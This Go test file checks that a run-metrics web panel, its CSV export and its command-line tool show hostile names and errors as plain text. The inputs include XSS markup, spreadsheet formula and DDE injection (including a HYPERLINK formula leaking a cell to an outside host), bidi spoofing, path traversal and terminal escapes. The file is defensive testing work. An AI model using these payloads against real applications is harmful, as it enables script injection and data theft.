package main

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/apexsalesai/runmetrics/events"
)

// hostileTexts are names and errors that try to be more than text: markup, script, spreadsheet formulas, marks that turn
// the direction of what follows, marks that are not seen, commands to terminals, and very long ones. Names take no
// control characters, so errors have those besides.
var hostileTexts = []string{
	`<script>window.hacked=1</script>`,
	`<img src=x onerror="window.hacked=1">`,
	`"><svg onload=window.hacked=1>`,
	`javascript:window.hacked=1//`,
	`{{constructor.constructor('alert(1)')()}}`,
	`=HYPERLINK("http://x.invalid?"&A1,"ok")`,
	`+1+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"ab\u202egpj.exe\u202c",
	"\u2066isolated\u2067 \u200bzero\u200dwidth\ufeff",
	"حملة الربيع",
	"קמפיין 2026 (א)",
	"👩\u200d🚀 ZÄ\u0308\u0301\u0302\u0303\u0304\u0306\u0307\u030a\u030b\u030c",
	strings.Repeat("W", 64),
	"../../etc/passwd?x=1#/state",
	"%2e%2e%2f%00",
	"..",
}

// hostileErrors are what agents say besides.
var hostileErrors = []string{
	"\x1b[2J\x1b[31mred\x07\r\nnext line",
	strings.Repeat("<b>long</b> ", 160),
	"</td></tr></table><script>window.hacked=1</script>",
}

// publishHostile makes a run of each text, with it as every name there is.
func (w *panelWorld) publishHostile(t *testing.T) {
	t.Helper()
	for i, text := range hostileTexts {
		key := events.Key{CampaignID: text, RunID: text, Phase: string([]rune(text)[:min(len([]rune(text)), 8)])}
		at := w.now.Add(-time.Duration(24*60-30-i) * time.Minute)
		said := text
		if i < len(hostileErrors) {
			said = hostileErrors[i]
		}
		w.tell(t, events.Event{Key: key, Type: events.RunStarted, OccurredAt: at, AgentsExpected: 2})
		w.tell(t, events.Event{Key: key, Type: events.AgentFinished, AgentID: text, AgentName: text, Model: text,
			Error: said, Attempt: 1, OccurredAt: at.Add(time.Second), Status: events.Failed, LatencyMs: 900, Cost: events.USD(1)})
	}
	subject := events.Subject("<script>window.hacked=1</script>", "\u202eevil")
	if _, err := w.js.Publish(t.Context(), subject, []byte(`{"v":1,"<img src=x onerror=window.hacked=1>":1}`)); err != nil {
		t.Fatal(err)
	}
}

// testPanelHostile looks at every view of runs whose names and errors are hostile.
func testPanelHostile(t *testing.T, w *panelWorld, p *tab) {
	p.open("#/?window=all")
	p.settled()
	wantText := func(what, text string) {
		t.Helper()
		// What is hidden is spelled out; the rest of a text must be there, as it is.
		for _, part := range strings.FieldsFunc(text, func(c rune) bool {
			return strings.ContainsRune("\u202e\u202c\u2066\u2067\u200b\u200d\ufeff\x1b\x07\r\n", c)
		}) {
			if !eval[bool](p, fmt.Sprintf("document.getElementById('view').textContent.includes(%s)", quoteJS(part))) {
				t.Errorf("%s does not show %q", what, part)
			}
		}
	}
	for _, text := range hostileTexts {
		wantText("the list", text)
	}
	if !strings.Contains(p.text(".runs"), "U+202E") {
		t.Error("a mark that turns the direction is not shown")
	}
	for i, text := range hostileTexts {
		if text == ".." {
			continue // no URL can hold it: the view says so
		}
		p.do(fmt.Sprintf(`location.hash = [...document.querySelectorAll(".runs .cell-run a")]
			.find((a) => a.textContent.includes(%s)).hash`, quoteJS(firstPart(text))))
		p.until("the run of "+text+" is shown", "document.querySelector('.agents .status')")
		wantText("the run", text)
		if i < len(hostileErrors) {
			wantText("the run's error", hostileErrors[i])
		}
		p.at("#/?window=all")
		p.until("the list is back", "document.querySelector('.runs tbody tr[data-key]')")
	}
	for _, view := range []string{"#/campaign/" + hostileScript, "#/deadletters", "#/run/../..", "#/run/%E0%A4%A",
		"#/<img src=x onerror=window.hacked=1>"} {
		p.at(view)
		p.until("a view is shown", "document.getElementById('view').childElementCount > 0 && !document.querySelector('.blank')")
	}
	if eval[bool](p, "'hacked' in window || document.querySelector('#view script, #view img') !== null") {
		t.Error("a text was run or became markup")
	}
}

// firstPart is the beginning of a text, up to what is not seen in it.
func firstPart(text string) string {
	part, _, _ := strings.Cut(strings.TrimLeft(text, "\u2066"), "\u202e")
	part, _, _ = strings.Cut(part, "\u2067")
	part, _, _ = strings.Cut(part, "\u200d")
	return part
}

// testPanelHostileElsewhere takes the same texts through the CSV that the panel leads to, and through the command line.
func testPanelHostileElsewhere(t *testing.T, w *panelWorld, p *tab) {
	p.open("#/?window=all")
	p.settled()
	rows, err := csv.NewReader(strings.NewReader(eval[string](p, `fetch(document.querySelector(".filters .end a").href)
		.then((answer) => answer.text())`))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]bool{}
	for _, row := range rows {
		cells[row[0]] = true
		for i, cell := range row {
			if strings.IndexAny(cell, "=+@\t\r") == 0 || strings.HasPrefix(cell, "-") {
				t.Errorf("a spreadsheet would run %s: %s", rows[0][i], cell)
			}
		}
	}
	for _, text := range hostileTexts {
		if !cells[text] && !cells["'"+text] {
			t.Errorf("the CSV has no %q", text)
		}
	}
	said := call(t, w.environ, "", "deadletters", "list")
	said.want(t, exitOK)
	if !strings.Contains(said.stdout, "evil") || strings.ContainsAny(said.stdout, "\u202e\x1b") {
		t.Errorf("the command line prints %q", said.stdout)
	}
}
